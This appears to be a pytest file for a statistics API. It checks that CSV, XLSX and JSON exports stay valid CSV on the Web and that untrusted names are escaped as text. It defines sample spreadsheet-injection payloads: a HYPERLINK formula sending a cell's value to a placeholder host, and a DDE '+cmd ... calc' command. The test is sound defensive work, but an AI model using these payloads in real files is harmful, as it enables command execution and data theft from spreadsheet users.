"""Files that people and programs open: described as CSV on the Web, harmless in spreadsheets."""

from __future__ import annotations

import io
import json
import re
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import csvw
import pytest
from python_calamine import CalamineWorkbook

from tests.api_site import ApiSite, api_site
from tests.viewer_region import BOLTON, HOSTILE, NAMES, fill, viewer_region

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Bolton")'
AREA_NAME = "+cmd|' /C calc'!A0 "
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiSite]:
    names = {**NAMES, BOLTON: FORMULA}
    folder = tmp_path_factory.mktemp("hostile")
    with viewer_region(folder, area_name=AREA_NAME, names=names) as region:
        fill(region, f"@SUM(1) {HOSTILE}")
        with api_site(region) as served:
            yield served


def described(site: ApiSite, key: str, name: str, table: str, folder: Path) -> csvw.CSVW:
    """A table and its description, as a program stores them."""
    data = site.statistics(name, f"{table}.csv", key)
    text = site.statistics(name, f"{table}.csv-metadata.json", key)
    assert text.headers["content-type"] == "application/csvm+json"
    assert 'rel="describedby"' in data.headers["link"]
    file = text.json()["url"]
    assert data.headers["link"].split(">")[0].endswith(f"{file}-metadata.json")
    (folder / file).write_bytes(data.content)
    (folder / f"{file}-metadata.json").write_bytes(text.content)
    return csvw.CSVW(str(folder / f"{file}-metadata.json"), validate=True)


@pytest.mark.parametrize("name", ["winter", "wrong", "partial", "series 3"])
@pytest.mark.parametrize("table", ["", "/band.lsoa", "/band", "/total"])
def test_tables_are_valid_csv_on_the_web(
    site: ApiSite, key: str, name: str, table: str, tmp_path: Path
) -> None:
    found = described(site, key, name, table, tmp_path)
    assert not found.warnings
    assert found.is_valid
    rows = list(found.tables[0])
    sent = site.statistics(name, f"{table}.json", key).json()["rows"]
    assert len(rows) == len(sent)
    assert [row["value"] for row in rows] == pytest.approx(
        [row["value"] for row in sent], abs=5.1e-7
    )
    assert isinstance(rows[0]["value"], float)


def test_the_check_of_csv_on_the_web_can_fail(site: ApiSite, key: str, tmp_path: Path) -> None:
    described(site, key, "winter", "/band", tmp_path)
    text = (tmp_path / "band.csv").read_text()
    (tmp_path / "band.csv").write_text(text.replace("reliable", "certain", 1))
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        assert not csvw.CSVW(str(tmp_path / "band.csv-metadata.json"), validate=True).is_valid


def cells_of(content: bytes) -> dict[str, Any]:
    """Parts of a workbook: XML by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


def test_no_text_of_a_workbook_is_a_formula_or_a_link(hostile: ApiSite) -> None:
    key = hostile.key()
    content = hostile.statistics("winter", "/band.lsoa.xlsx", key).content
    parts = cells_of(content)
    styles = ElementTree.fromstring(parts["xl/styles.xml"])
    marked = {
        str(at)
        for at, style in enumerate(styles.iterfind(f"{SHEET}cellXfs/{SHEET}xf"))
        if style.get("quotePrefix") == "1"
    }
    assert marked
    texts = 0
    for name, part in parts.items():
        assert not re.search(rb"<f[ >]", part), name
        if not name.startswith("xl/worksheets/sheet"):
            continue
        sheet = ElementTree.fromstring(part)
        assert sheet.find(f"{SHEET}hyperlinks") is None
        for cell in sheet.iter(f"{SHEET}c"):
            text = "".join(one.text or "" for one in cell.iter(f"{SHEET}t"))
            if text.startswith(("=", "+", "-", "@")):
                assert cell.get("t") == "inlineStr"
                assert cell.get("s") in marked, text
                texts += 1
    assert texts > 50
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    header, *rows = book.get_sheet_by_name("Figures").to_python()
    at = header.index("place_name")
    assert FORMULA in {row[at] for row in rows}


def test_no_text_of_a_csv_file_is_a_formula(hostile: ApiSite) -> None:
    text = hostile.statistics("winter", "/band.lsoa.csv", hostile.key()).text
    assert "'=HYPERLINK" in text
    assert "'+cmd" in text
    assert not re.search(r'(^|,)"?[=+@]', text, re.MULTILINE)


def test_hostile_names_are_valid_in_descriptions(hostile: ApiSite, tmp_path: Path) -> None:
    found = described(hostile, hostile.key(), "wrong", "/band.lsoa", tmp_path)
    assert not found.warnings
    assert found.is_valid


def test_hostile_names_are_text_in_json_and_geojson(hostile: ApiSite) -> None:
    key = hostile.key()
    for form in ("json", "geojson"):
        answer = hostile.statistics("winter", f"/band.lsoa.{form}", key)
        found = json.loads(answer.content)
        assert found["title"] == f"@SUM(1) {HOSTILE} 2026"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
    rows = hostile.statistics("winter", "/band.lsoa.json", key).json()["rows"]
    assert {row["place_name"] for row in rows} >= {FORMULA}
    names = {row["lsoa_name"] for row in rows if row["level"] == "council"}
    assert all(name.startswith(AREA_NAME) for name in names)


def test_file_names_hold_nothing_that_somebody_wrote(hostile: ApiSite) -> None:
    for form in ("csv", "xlsx", "parquet", "geojson"):
        answer = hostile.statistics("winter", f"/band.{form}", hostile.key())
        name = answer.headers["content-disposition"]
        assert re.fullmatch(rf'attachment; filename="round-[0-9a-f]{{12}}-band\.{form}"', name)


def test_hostile_titles_are_text_on_the_pages(hostile: ApiSite) -> None:
    hostile.account("ann@example.org", "analyst")
    with hostile.signed_in("ann@example.org") as browser:
        for path in ("/api/v1", "/keys"):
            page = browser.get(path)
            assert page.status_code == 200
            assert HOSTILE not in page.text
    found = hostile.get("/rounds", hostile.key()).json()["rounds"]
    assert any(HOSTILE in one["title"] for one in found)
